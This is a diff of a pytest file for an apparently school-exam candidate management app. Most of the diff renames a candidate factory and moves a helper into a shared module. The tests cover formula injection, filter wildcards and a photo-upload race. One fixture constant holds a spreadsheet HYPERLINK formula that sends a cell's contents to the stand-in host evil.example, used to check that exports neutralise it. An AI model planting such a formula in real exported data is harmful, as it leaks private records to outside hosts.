@@ -16,14 +16,10 @@ import app.menu as menu
 import app.security_views as security_views
 from app.candidates.models import Candidate
 from app.extensions import db
-
-from test_candidates import new_candidate
+from factories import make_candidate
+from helpers import text
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
-
-
-def text(resp):
-    return resp.get_data(as_text=True)
 
 
 # --- item 8: formula injection ----------------------------------------------------------------
@@ -32,8 +28,8 @@ def text(resp):
 @pytest.fixture
 def poisoned(app):
     """A candidate of 五十七中 whose address is a formula and whose phone starts with "+"."""
-    return new_candidate(app, address=HYPERLINK, phone="+8612345678", remark="-1",
-                         class_name="@SUM(1,1)")
+    return make_candidate(app, address=HYPERLINK, phone="+8612345678", remark="-1",
+                          class_name="@SUM(1,1)")
 
 
 def _id_number(app, candidate_id):
@@ -194,8 +190,8 @@ def test_page_size_is_capped(app, admin):
 
 def test_starts_with_filter_matches_wildcards_literally(app, admin):
     """"50%" finds a class named "50%…", not every class starting with "50"."""
-    cid = new_candidate(app, class_name="50%进度班")
-    other = new_candidate(app, class_name="500班")
+    cid = make_candidate(app, class_name="50%进度班")
+    other = make_candidate(app, class_name="500班")
     for flt in ("_flt_0_class_name", "_flt_2_class_name"):  # starts with, contains
         page = text(admin.get("/candidateview/list/",
                               query_string={flt: "50%", "psize_CandidateView": "100"}))
@@ -237,7 +233,7 @@ def test_list_actions_without_rows_never_answer_500(app, admin, name):
 def test_physical_result_without_restrictions_is_saved(app, login, restrictions):
     from app.gaokao.models import PhysicalExam
 
-    cid = new_candidate(app, kind="gaokao", birth=dt.date(2008, 5, 5))
+    cid = make_candidate(app, kind="gaokao", birth=dt.date(2008, 5, 5))
     number = _id_number(app, cid)
     clerk = login("zy_clerk")
     clerk.refresh_token("/physical/add")
@@ -260,9 +256,9 @@ def test_physical_result_without_restrictions_is_saved(app, login, restrictions)
 def test_photo_upload_racing_the_signature_answers_conflict(app, login, monkeypatch):
     """Another clerk marks the record signed between the page load and the photo's write."""
     from app.photos import service
-    from test_photo_checks import encode, portrait
+    from photo_faces import encode, portrait
 
-    cid = new_candidate(app)
+    cid = make_candidate(app)
     real = service.compliant_bytes
 
     def signed_meanwhile(data, kind):
